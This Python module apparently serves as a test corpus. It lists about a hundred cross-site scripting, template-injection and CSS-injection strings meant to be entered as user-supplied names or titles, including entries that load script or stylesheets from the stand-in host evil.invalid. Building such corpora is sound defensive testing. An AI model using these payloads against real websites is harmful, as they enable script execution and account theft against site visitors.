"""A hundred words that a stranger may choose as a name or a title. Each tries to be more."""

from __future__ import annotations

from itertools import chain

MARKER = "owned-7f3a"
_DO = f"alert('{MARKER}')"

_ELEMENTS = [
    f"<script>{_DO}</script>",
    f"<ScRiPt>{_DO}</sCrIpT>",
    "<script src=//evil.invalid/x.js></script>",
    f"<img src=x onerror={_DO}>",
    f"<img src=x onerror=\"{_DO}\">",
    f"<img/src=`x`onerror={_DO}>",
    f"<svg onload={_DO}>",
    f"<svg/onload={_DO}//",
    f"<svg><script>{_DO}</script></svg>",
    f"<svg><script href=data:,{_DO} /></svg>",
    f"<svg><animate onbegin={_DO} attributeName=x dur=1s>",
    f"<svg><set onbegin={_DO} attributeName=x>",
    f"<svg><a xlink:href=javascript:{_DO}><text>go</text></a></svg>",
    f"<svg><use href=data:image/svg+xml,<svg/onload={_DO}>>",
    f"<svg><foreignObject><body onload={_DO}></foreignObject></svg>",
    f"<math><mtext><img src=x onerror={_DO}></mtext></math>",
    f"<body onload={_DO}>",
    f"<body onpageshow={_DO}>",
    f"<iframe srcdoc=\"<script>parent.{_DO}</script>\"></iframe>",
    f"<iframe src=javascript:{_DO}></iframe>",
    f"<iframe src=data:text/html,<script>{_DO}</script>></iframe>",
    f"<object data=data:text/html,<script>{_DO}</script>></object>",
    f"<embed src=data:text/html,<script>{_DO}</script>>",
    f"<video><source onerror={_DO}></video>",
    f"<audio src=x onerror={_DO}></audio>",
    f"<details open ontoggle={_DO}>more</details>",
    f"<input autofocus onfocus={_DO}>",
    f"<select autofocus onfocus={_DO}></select>",
    f"<textarea autofocus onfocus={_DO}></textarea>",
    f"<button autofocus onfocus={_DO}>go</button>",
    f"<marquee onstart={_DO}>go</marquee>",
    f"<style onload={_DO}></style>",
    f"<link rel=stylesheet href=x onerror={_DO}>",
    f"<meta http-equiv=refresh content=\"0;url=javascript:{_DO}\">",
    "<meta http-equiv=refresh content=\"0;url=//evil.invalid/\">",
    "<base href=//evil.invalid/>",
    f"<form action=javascript:{_DO}><input type=submit></form>",
    f"<a href=javascript:{_DO}>go</a>",
    f"<a href=\"java\tscript:{_DO}\">go</a>",
    f"<a href=data:text/html,<script>{_DO}</script>>go</a>",
    f"<template><img src=x onerror={_DO}></template>",
    f"<dialog open><img src=x onerror={_DO}></dialog>",
    f"<x contenteditable autofocus onfocus={_DO} tabindex=1>go</x>",
    f"<p style=animation-name:x onanimationstart={_DO}>go</p>",
    f"<slot name=x onslotchange={_DO}></slot>",
]  # fmt: skip
_ENDS = [
    f"{end}<img src=x onerror={_DO}>"
    for end in (
        "\"", "'", "\">", "'>", "</title>", "</style>", "</script>", "</textarea>", "</noscript>",
        "</svg>", "</desc>", "</text>", "]]>", "-->", "--!>", "?>", "</pre>", "</code>",
        "</template>", "</iframe>", "</h1></main></body>",
    )
]  # fmt: skip
_ATTRIBUTES = [
    f"{quote} {name}={_DO} {rest}"
    for quote in ("\"", "'")
    for name, rest in (
        ("onmouseover", "x="), ("onfocus", "autofocus tabindex=0 x="), ("onload", ""),
        ("onpointerenter", "style=position:fixed;inset:0 x="),
    )
]  # fmt: skip
_OTHERS = [
    f"javascript:{_DO}",
    f"JaVaScRiPt:{_DO}",
    f"\x01javascript:{_DO}",
    f"data:text/html,<script>{_DO}</script>",
    f"';{_DO}//",
    f"\";{_DO}//",
    f"`;{_DO}//",
    f"\\\";{_DO}//",
    f"${{{_DO}}}",
    f"{{{{{_DO}}}}}",
    f"{{{{constructor.constructor(\"{_DO}\")()}}}}",
    "{% print(7*7) %}{{7*7}}",
    "{0.__class__} %s %(x)s {title}",
    "</style><style>*{background:url(//evil.invalid/)}</style>",
    "x}body{display:none}*{background:url(//evil.invalid/)",
    "@import '//evil.invalid/x.css';",
    f"&lt;script&gt;{_DO}&lt;/script&gt;",
    f"&#60;img src=x onerror={_DO}&#62;",
    f"\uff1cscript\uff1e{_DO}\uff1c/script\uff1e",
    f"<\0script>{_DO}</script>",
    f"<scr\u200bipt>{_DO}</scr\u200bipt>",
    f"\u202e<script>{_DO}</script>\u2066",
    f"<!--<img src=--><img src=x onerror={_DO}>",
    f"<![CDATA[<img src=x onerror={_DO}>]]>",
    f"<!DOCTYPE x [<!ENTITY e \"{_DO}\">]>&e;",
    f"<?xml-stylesheet href=\"javascript:{_DO}\"?>",
]  # fmt: skip

PAYLOADS = tuple(dict.fromkeys(chain(_ELEMENTS, _ENDS, _ATTRIBUTES, _OTHERS)))
